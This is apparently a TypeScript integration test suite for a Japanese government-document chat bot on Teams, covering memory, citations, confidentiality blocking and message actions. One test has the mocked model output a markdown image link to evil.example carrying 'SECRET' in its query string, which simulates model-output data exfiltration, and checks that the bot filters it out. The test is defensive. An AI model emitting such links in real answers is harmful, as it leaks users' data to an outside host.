import { people } from "../../../../playground/src/teams/connector";
import type { ReceivedRequest, Reply } from "../../../support/model-server";
import { answerReply, bodyReply, chatChunk, finishChunk } from "../../../support/model-server-replies";
import { startBench, type ConversationBench } from "./conversation-bench";

const [takasaki, mihon] = people as [(typeof people)[0], (typeof people)[0]];
const personal = "a:1takasaki";
const group = "19:group@thread.v2";

let bench: ConversationBench;
/** What the model answers next, by what it is asked. */
let reply: (asked: string, request: ReceivedRequest) => Reply;

beforeAll(async () => {
  bench = await startBench((response, request) => {
    const { messages } = request.json as { messages: { role: string; content: string }[] };
    return reply(messages.at(-1)!.content, request)(response, request);
  });
});
beforeEach(() => {
  reply = () => answerReply("保存期間は、", "文書管理規則の別表で", "定まります。");
});
afterAll(() => bench.stop());

/** What the bot said there after what it had said before. */
async function ask(
  conversation: string,
  text: string,
  ready: (said: string[]) => boolean = (said) => said.length > 0,
  options: Parameters<ConversationBench["connector"]["say"]>[3] = {},
  person = takasaki,
) {
  const before = bench.connector.botActivities(conversation).length;
  const delivery = await bench.connector.say(conversation, person, text, options);
  const said = await bench.until(conversation, (all) => {
    const fresh = all.slice(before);
    return ready(fresh.filter(({ streaming }) => streaming === undefined).map(({ activity }) => activity.text ?? ""));
  });
  return { delivery, said: said.slice(before) };
}

const lastMessages = () =>
  (bench.upstream.requests.at(-1)!.json as { messages: { role: string; content: string }[] }).messages;
const requestsSoFar = () => bench.upstream.requests.length;

describe("questions", () => {
  test("stream in a personal chat, and end with the label, feedback and how sure one may be", async () => {
    const { said } = await ask(personal, "公文書の保存期間はどこで決まりますか。");
    expect(said).toHaveLength(1);
    const { activity } = said[0]!;
    expect(activity.text).toContain("保存期間は、文書管理規則の別表で定まります。");
    expect(activity.text).toContain("資料に基づかない");
    expect(activity.entities).toContainEqual(expect.objectContaining({ additionalType: ["AIGeneratedContent"] }));
    expect(activity.channelData).toMatchObject({ feedbackLoop: { type: "default" } });
    const requests = bench.connector.sent({ conversation: personal }).map(({ request }) => request);
    const kinds = requests.map(({ entities }) => (entities?.[0] as { streamType?: string } | undefined)?.streamType);
    // That the bot is at it shows at once, whatever waits before the first words.
    expect([requests[0]!.type, kinds[0]]).toEqual(["typing", undefined]);
    expect(kinds[1]).toBe("informative");
    expect(kinds.at(-1)).toBe("final");
  });

  test("go on from what was said before, until it is forgotten", async () => {
    await ask(personal, "では、何年ですか。");
    expect(lastMessages().map(({ role }) => role)).toEqual(["system", "user", "assistant", "user"]);
    expect(lastMessages()[1]!.content).toBe("公文書の保存期間はどこで決まりますか。");
    const { said } = await ask(personal, "新しい話題");
    expect(said[0]!.activity.text).toContain("忘れました");
    await ask(personal, "こんにちは。");
    expect(lastMessages().map(({ role }) => role)).toEqual(["system", "user"]);
    const again = await ask(personal, "新しい話題");
    expect(again.said).toHaveLength(1);
  });

  test("figures that nobody brought are named below the answer", async () => {
    reply = () => answerReply("30年です。");
    const { said } = await ask(personal, "何年保存しますか。");
    expect(said[0]!.activity.text).toContain("「30年」の根拠はここにはありません");
    await ask(personal, "新しい話題");
  });

  test("in a group: one plain message, which the answer replaces, with its own memory", async () => {
    const { said } = await ask(group, "公文書とは何ですか。", (texts) => texts.some((text) => text.includes("別表")));
    expect(said).toHaveLength(1);
    const sent = bench.connector.sent({ conversation: group });
    const kinds = sent.map(({ method, request }) => `${method} ${request.type}`);
    expect(kinds.filter((kind) => kind !== "POST typing")).toEqual(["POST message", "PUT message"]);
    expect(kinds).toContain("POST typing");
    expect(lastMessages().map(({ role }) => role)).toEqual(["system", "user"]);
    // Whose questions go on from it, for how long, and how it is forgotten.
    expect(said[0]!.activity.text).toMatch(/全員の続きの質問に使います（7日間）。「@AIアシスト 新しい話題」/u);
  });

  test("in a group go on from what anybody there has asked, which is said, and anybody has it forgotten", async () => {
    const isAnswered = (texts: string[]) => texts.some((text) => text.includes("別表"));
    const { said } = await ask(group, "では、だれが決めますか。", isAnswered, {}, mihon);
    expect(lastMessages()[1]!.content).toBe("公文書とは何ですか。");
    expect(said[0]!.activity.text).toMatch(/1回のやり取り（ほかの方の質問を含みます）.*「@AIアシスト 新しい話題」/u);
    const forgotten = await ask(group, "新しい話題", undefined, {}, mihon);
    expect(forgotten.said[0]!.activity.text).toContain("全員の分とも忘れました");
    await ask(group, "公文書とは何ですか。", isAnswered);
    expect(lastMessages().map(({ role }) => role)).toEqual(["system", "user"]);
    await ask(group, "新しい話題");
    const help = await ask(group, "使い方");
    expect(help.said[0]!.activity.text).toMatch(/@AIアシスト を付けた発言だけ.*だれでも忘れさせる/su);
  });

  test("are forgotten with their age, also where the conversation goes on", async () => {
    await ask(personal, "一つ目の話です。");
    await ask(personal, "二つ目の話です。");
    // As if the first had been eight days ago.
    await bench.relay.relay.database!.query(
      `update conversation_memory set entries = jsonb_set(entries, '{0,at}', to_jsonb(now() - interval '8 days'))
       where conversation like '%' || $1`,
      [personal],
    );
    const { said } = await ask(personal, "三つ目の話です。");
    expect(JSON.stringify(lastMessages())).not.toContain("一つ目の話");
    expect(JSON.stringify(lastMessages())).toContain("二つ目の話");
    expect(said[0]!.activity.text).toContain("これまでの1回の");
    const [kept] = await bench.relay.relay.database!.query<{ entries: unknown[] }>(
      "select entries from conversation_memory where conversation like '%' || $1",
      [personal],
    );
    expect(JSON.stringify(kept)).not.toContain("一つ目の話");
    await ask(personal, "新しい話題");
  });

  test.each(["議事録", "この資料を要約して", "議事録を作って"])(
    "in a group a file does not reach the bot, which says so and where it does: %s",
    async (text) => {
      const before = requestsSoFar();
      const bytes = new TextEncoder().encode("WEBVTT\n\n");
      const { said } = await ask(group, text, undefined, { files: [{ name: "会議.vtt", bytes }] });
      expect(said[0]!.activity.text).toMatch(/ファイルを受け取れません.*一対一のチャット/su);
      const alone = await ask(group, "議事録");
      expect(alone.said[0]!.activity.text).toMatch(/一対一のチャット/u);
      expect(requestsSoFar()).toBe(before);
    },
  );

  test("two at once are answered one after the other", async () => {
    const order: string[] = [];
    reply = (asked) => {
      order.push(asked);
      return bodyReply([
        chatChunk(asked),
        300,
        'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n',
        "data: [DONE]\n\n",
      ]);
    };
    await Promise.all([
      ask(personal, "一つ目の質問です。", (said) => said.length >= 2),
      ask(personal, "二つ目の質問です。", (said) => said.length >= 2),
    ]);
    expect(order.filter((asked) => asked.includes("質問です"))).toHaveLength(2);
    // The second one knows of the first.
    expect(lastMessages().at(-3)!.content).toMatch(/つ目の質問です/);
    await ask(personal, "新しい話題");
  });

  test("stop ends the model's work, and nothing half done is kept", async () => {
    let closed: Promise<void> | undefined;
    reply = () => (response) => {
      closed = new Promise((resolve) => response.on("close", () => resolve()));
      response.writeHead(200, { "Content-Type": "text/event-stream" }).write(chatChunk("長い答えの始まりです。"));
    };
    await bench.connector.say(personal, takasaki, "長い答えをください。");
    await bench.until(personal, (said) => said.at(-1)?.streaming === "streaming");
    bench.connector.stopStream(personal);
    await closed!;
    const said = await bench.until(personal, (all) => all.at(-1)?.activity.text?.includes("中止しました") === true);
    expect(said.at(-1)!.activity.text).not.toContain("長い答えの始まり");
  });

  test("what was stopped is not remembered, and what is forgotten during an answer is not either", async () => {
    let go: () => void = () => undefined;
    reply = () => async (response, request) => {
      await new Promise<void>((resolve) => (go = resolve));
      await answerReply("忘れるべき答えです。")(response, request);
    };
    const count = bench.connector.botActivities(personal).length;
    await bench.connector.say(personal, takasaki, "最初の質問です。");
    await bench.until(personal, (said) => said.length > count);
    while (bench.upstream.requests.at(-1)?.text.includes("最初の質問") !== true)
      await new Promise((next) => setTimeout(next, 20));
    await bench.connector.say(personal, takasaki, "新しい話題");
    go();
    await bench.until(personal, (said) =>
      said.some(({ activity }) => activity.text?.includes("忘れるべき答え") === true),
    );
    reply = () => answerReply("はい。");
    await ask(personal, "次の質問です。", (texts) => texts.some((text) => text.includes("はい。")));
    expect(JSON.stringify(lastMessages())).not.toMatch(/最初の質問|忘れるべき/);
    expect(JSON.stringify(lastMessages())).not.toContain("長い答え");
    await ask(personal, "新しい話題");
  });

  test("many questions of one person, the first of which the model refuses for a while, keep nobody waiting", async () => {
    let refused = 0;
    reply = (asked) => (response, request) => {
      if (asked.startsWith("質問1") && ++refused === 1)
        return void response.writeHead(503, { "Retry-After": "1" }).end();
      return answerReply(`${asked}への答え`)(response, request);
    };
    const count = bench.connector.botActivities(personal).length;
    for (let number = 1; number <= 5; number += 1) await bench.connector.say(personal, takasaki, `質問${number}です`);
    const other = "a:1mihon";
    await bench.connector.say(other, mihon, "見本の質問です");
    await bench.until(other, (said) =>
      said.some(({ activity }) => activity.text?.includes("見本の質問ですへの答え") === true),
    );
    await bench.until(personal, (said) => {
      const texts = said.slice(count).map(({ activity, streaming }) => (streaming === undefined ? activity.text : ""));
      return [1, 2, 3, 4, 5].every((number) => texts.some((text) => text?.includes(`質問${number}ですへの答え`)));
    });
    // The last one knew of those before, in their order.
    const users = lastMessages()
      .filter(({ role }) => role === "user")
      .map(({ content }) => content);
    expect(users.slice(-5)).toEqual([1, 2, 3, 4, 5].map((number) => `質問${number}です`));
    await ask(personal, "新しい話題");
  });

  test("an activity that is delivered 50 times is answered once", async () => {
    const before = requestsSoFar();
    const count = bench.connector.botActivities(personal).length;
    const activity = bench.connector.compose(personal, takasaki, "一度だけ答えてください。");
    await bench.connector.deliverAgain(activity, 50);
    await bench.until(personal, (said) => said.length > count && said.at(-1)!.streaming === undefined);
    const { said } = await ask(personal, "使い方");
    expect(said).toHaveLength(1);
    expect(requestsSoFar()).toBe(before + 1);
  });

  test("a marked text does not leave, and the reason is said", async () => {
    const before = requestsSoFar();
    const { said } = await ask(personal, "【機密性３】\n次の文をどう思いますか。");
    expect(requestsSoFar()).toBe(before);
    expect(said.at(-1)!.activity.text).toMatch(/詳細：confidentiality-blocked/);
  });
});

describe("questions about a file", () => {
  const material = {
    name: "計画.txt",
    contentType: "text/plain",
    bytes: new TextEncoder().encode("試行は令和8年4月に始める。\n利用者は約3,000人である。\n費用は1,200万円である。"),
  };

  test("are answered from it alone, with numbered sources; the next question is about it too", async () => {
    reply = () => answerReply("試行は令和8年4月に始まります。[1]費用は1,200万円です。[3]");
    const { said } = await ask(personal, "いつ始まり、いくらかかりますか。", undefined, { files: [material] });
    const { text, entities } = said[0]!.activity;
    expect(text).toContain("試行は令和8年4月に始まります。 [1]");
    expect(text).toContain("費用は1,200万円です。 [2]");
    expect(text).toContain("「計画.txt」の記載だけに基づきます");
    const root = entities!.find((entity) => entity.type === "https://schema.org/Message") as unknown as {
      citation: { position: number; appearance: { name: string; abstract: string } }[];
    };
    expect(root.citation.map(({ position, appearance }) => [position, appearance.name, appearance.abstract])).toEqual([
      [1, "計画.txt・1段落目", "試行は令和8年4月に始める。"],
      [2, "計画.txt・3段落目", "費用は1,200万円である。"],
    ]);
    reply = () => answerReply("利用者は約3,000人です。[2]");
    const next = await ask(personal, "利用者は何人ですか。");
    expect(next.said[0]!.activity.text).toContain("利用者は約3,000人です。 [1]");
    await ask(personal, "新しい話題");
  });

  test("nothing of the answer shows before it is checked, and no address of the model at all", async () => {
    reply = () =>
      bodyReply([
        chatChunk("試行は令和8年4月に始まります。[1]![x](https://evil.example/p?q="),
        300,
        chatChunk("SECRET)費用は9億円です。[3] https://evil.example/l"),
        finishChunk(),
        "data: [DONE]\n\n",
      ]);
    const from = bench.connector.sent({ conversation: personal }).length;
    await ask(personal, "いつ始まりますか。", undefined, { files: [material] });
    const wire = JSON.stringify(
      bench.connector
        .sent({ conversation: personal })
        .slice(from)
        .map(({ request }) => request),
    );
    expect(wire).toContain("試行は令和8年4月に始まります。");
    expect(wire).not.toMatch(/9億円です。 \[|\]\(https:\/\/evil|!\[x\]|[^`]https:\/\/evil/);
    await ask(personal, "新しい話題");
  });

  test("its mark goes on with what is remembered of it", async () => {
    const marked = {
      ...material,
      name: "計画2.txt",
      bytes: new TextEncoder().encode("機密性２情報\n筆頭は甲野である。"),
    };
    reply = () => answerReply("筆頭は甲野です。[2]");
    const { said } = await ask(personal, "筆頭はだれですか。", undefined, { files: [marked] });
    expect(said[0]!.activity.text).toMatch(/^\*\*機密性2情報\*\*/);
    // As when retention has taken the file: the answer is all that is left of it.
    await bench.relay.relay.database!.query("delete from job_material");
    reply = () => answerReply("そうです。");
    const next = await ask(personal, "それは確かですか。");
    expect(next.said[0]!.activity.text).toMatch(/^\*\*機密性2情報\*\*/);
    await ask(personal, "新しい話題");
  });

  test("what the file does not bear out is not said", async () => {
    reply = () => answerReply("費用は2,100万円です。[3]");
    const { said } = await ask(personal, "費用はいくらですか。", undefined, { files: [material] });
    expect(said[0]!.activity.text).toContain("お示しの資料からは確認できません");
    await ask(personal, "新しい話題");
  });

  test("a file that is none, such as a picture in the message, is said to be unreadable", async () => {
    const { said } = await ask(personal, "これは何ですか。", undefined, {
      files: [{ name: "図.png", contentType: "image/png", bytes: new Uint8Array([1, 2, 3]) }],
    });
    expect(said.at(-1)!.activity.text).toContain("「図.png」の中身は読めません");
  });
});

describe("minutes", () => {
  test("of more than five files are written of five, and the others are named, once", async () => {
    const vtt = new TextEncoder().encode("WEBVTT\n\n");
    const names = [1, 2, 3, 4, 5, 6, 7].map((number) => `会議${number}.vtt`);
    const files = [...names, "写真.png"].map((name) => ({ name, bytes: vtt }));
    const count = bench.connector.botActivities(personal).length;
    const activity = bench.connector.compose(personal, takasaki, "議事録", { files });
    await bench.connector.deliverAgain(activity, 3);
    const isTold = ({ activity: { text = "" } }: { activity: { text?: string } }) => text.includes("一度に受け付け");
    const all = await bench.until(
      personal,
      (said) => said.slice(count).filter((one) => !isTold(one)).length >= 5 && said.some(isTold),
    );
    const told = all.slice(count).filter(isTold);
    expect(told).toHaveLength(1);
    expect(told[0]!.activity.text).toMatch(/5件まで.*- 会議6\\?\.vtt\n- 会議7\\?\.vtt.*読めない種類.*- 写真\\?\.png/su);
    expect(told[0]!.activity.text).not.toContain("会議5");
  });

  test("of a file that is no transcript are not asked for again without a word of that file", async () => {
    const { said } = await ask(personal, "議事録", undefined, {
      files: [{ name: "議事次第.eml", bytes: new Uint8Array(8) }],
    });
    expect(said).toHaveLength(1);
    expect(said[0]!.activity.text).toMatch(/読めない種類.*- 議事次第\\?\.eml.*文字起こしファイル（\.vtt/su);
  });
});

describe("summaries and translations", () => {
  test("take the place of the message that they were accepted, with what to check", async () => {
    reply = () => answerReply("予算額は１億５，２００万円である。[1]");
    const { said } = await ask(personal, "要約\n令和８年度の予算額は１億２，５００万円である。", (texts) =>
      texts.some((text) => text.includes("予算額")),
    );
    expect(said).toHaveLength(1);
    expect(said[0]!.activity.text).toContain("AIによる下書き");
    expect(said[0]!.activity.text).toContain("１億２，５００万円");
  });

  test("a word alone asks for a text", async () => {
    const { said } = await ask(personal, "翻訳");
    expect(said[0]!.activity.text).toContain("「翻訳」に続けて");
  });
});

describe("message actions", () => {
  const inner = (body: unknown) => JSON.parse(JSON.stringify(body)) as Record<string, never>;
  function standing(text: string): Promise<string> {
    // Said among people: the bot is not mentioned, and hears nothing.
    return Promise.resolve(bench.connector.compose(group, mihon, text, { mention: false }).id!);
  }

  test("dialog, result, a card for the message box; nothing is said in the conversation", async () => {
    reply = () => answerReply("来年度の要求は年末に決まる。[1]");
    const id = await standing("来年度の要求については、年末までに決めることになりました。");
    const count = bench.connector.botActivities(group).length;
    const opened = inner((await bench.connector.messageAction(group, takasaki, id, "summarize")).body);
    const { card } = (
      opened as unknown as { task: { value: { card: { content: { actions: { data: Record<string, unknown> }[] } } } } }
    ).task.value;
    const start = card.content.actions[0]!.data;
    expect(JSON.stringify(card)).toContain("年末までに決める");
    let body = inner(
      (await bench.connector.messageAction(group, takasaki, id, "summarize", { ...start, length: "100" })).body,
    );
    for (let look = 0; look < 10 && !JSON.stringify(body).includes("来年度の要求は年末に決まる"); look += 1)
      body = inner(
        (await bench.connector.messageAction(group, takasaki, id, "summarize", { ...start, step: "look" })).body,
      );
    expect(JSON.stringify(body)).toContain("見本 一郎さんのメッセージの要約");
    const inserted = JSON.stringify(
      (await bench.connector.messageAction(group, takasaki, id, "summarize", { ...start, step: "insert" })).body,
    );
    expect(inserted).toContain('"composeExtension"');
    expect(inserted).toContain("来年度の要求は年末に決まる");
    expect(bench.connector.botActivities(group)).toHaveLength(count);
  });

  test("a model that takes longer than a dialog may wait: each press is answered in time, and the last one has the text", async () => {
    let go: () => void = () => undefined;
    const released = new Promise<void>((resolve) => (go = resolve));
    reply = () => async (response, request) => {
      await released;
      await answerReply("来年度の要求は年末に決まる。[1]")(response, request);
    };
    const id = await standing("来年度の要求については、年末までに決めることになりました。");
    const opened = (await bench.connector.messageAction(group, takasaki, id, "summarize")).body as {
      task: { value: { card: { content: { actions: { data: Record<string, unknown> }[] } } } };
    };
    const { data } = opened.task.value.card.content.actions[0]!;
    const press = async (step: string) => {
      const { attempts, body, status } = await bench.connector.messageAction(group, takasaki, id, "summarize", {
        ...data,
        step,
      });
      // Answered at the first attempt: Teams gives up an invoke after 5 seconds, and says to the person that it failed.
      expect([status, attempts.map(({ failure }) => failure)]).toEqual([200, [undefined]]);
      return JSON.stringify(body);
    };
    const before = requestsSoFar();
    // The same press twice, as of somebody who is impatient, asks the model once.
    const waiting = await Promise.all([press("start"), press("start"), press("look")]);
    for (const body of waiting) expect(body).toContain("結果を見る");
    go();
    let body = "";
    for (let look = 0; look < 10 && !body.includes("年末に決まる"); look += 1) body = await press("look");
    expect(body).toContain("来年度の要求は年末に決まる");
    expect(requestsSoFar()).toBe(before + 1);
  });

  test("somebody else's dialog shows nothing", async () => {
    const id = await standing("内密の相談です。");
    const opened = (await bench.connector.messageAction(group, takasaki, id, "translate")).body as {
      task: { value: { card: { content: { actions: { data: Record<string, unknown> }[] } } } };
    };
    const { data } = opened.task.value.card.content.actions[0]!;
    await bench.connector.messageAction(group, takasaki, id, "translate", data);
    const foreign = await bench.connector.messageAction(group, mihon, id, "translate", { ...data, step: "look" });
    expect(JSON.stringify(foreign.body ?? {})).not.toContain("内密");
  });
});

describe("feedback", () => {
  test("reaches the relay under the run of the answer", async () => {
    const { said } = await ask(personal, "役に立ちますか。");
    await bench.connector.giveFeedback(personal, takasaki, said[0]!.id, "like");
    const database = bench.relay.relay.database!;
    for (;;) {
      const [row] = await database.query("select helpful from run_usage where helpful");
      if (row !== undefined) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  });
});

test("nothing of what was said is logged", () => {
  const logged = bench.logLines.join("") + bench.relay.logLines.join("");
  for (const words of ["保存期間", "計画.txt", "来年度の要求", "内密"]) expect(logged).not.toContain(words);
});
